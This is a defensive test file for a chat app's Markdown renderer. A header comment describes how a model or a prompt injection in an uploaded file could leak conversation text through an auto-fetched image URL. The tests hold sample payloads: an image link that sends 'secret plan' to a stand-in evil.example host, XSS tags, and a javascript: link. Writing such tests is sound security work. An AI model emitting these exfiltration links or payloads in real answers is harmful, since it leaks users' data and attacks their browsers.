// @vitest-environment happy-dom
// Images in answers: a model (or a prompt injection in an uploaded file) could put conversation text into
// an image URL, which the browser would fetch without a click. Only same-origin and data images render;
// any other image becomes a link the user may choose to open.
import { afterEach, describe, expect, it } from 'vitest';
import { cleanup, render } from '@testing-library/react';
import { Markdown } from './markdown';

afterEach(cleanup);

describe('Markdown images', () => {
  it('renders a remote image as a link, never as <img>', () => {
    const { container } = render(
      <Markdown content={'Look: ![chart](https://evil.example/leak?q=secret+plan)'} streaming={false} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://evil.example/leak?q=secret+plan');
    expect(link?.textContent).toContain('chart');
    expect(link?.textContent).toContain('evil.example');
  });

  it('renders protocol-relative images as links too', () => {
    const { container } = render(<Markdown content={'![x](//evil.example/a.png)'} />);
    expect(container.querySelector('img')).toBeNull();
  });

  it('renders same-origin and data images inline', () => {
    const { container } = render(
      <Markdown content={'![logo](/favicon.svg) ![dot](data:image/png;base64,iVBORw0KGgo=)'} />,
    );
    const srcs = [...container.querySelectorAll('img')].map((i) => i.getAttribute('src'));
    expect(srcs).toEqual(['/favicon.svg', 'data:image/png;base64,iVBORw0KGgo=']);
  });
});

describe('Markdown HTML', () => {
  it('shows raw HTML in an answer as text, never as elements', () => {
    const { container } = render(
      <Markdown content={'Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
  });

  it('drops javascript: links', () => {
    const { container } = render(<Markdown content={'[click](javascript:alert(1))'} />);
    expect(container.querySelector('a')?.getAttribute('href') ?? '').not.toMatch(/javascript:/i);
  });
});
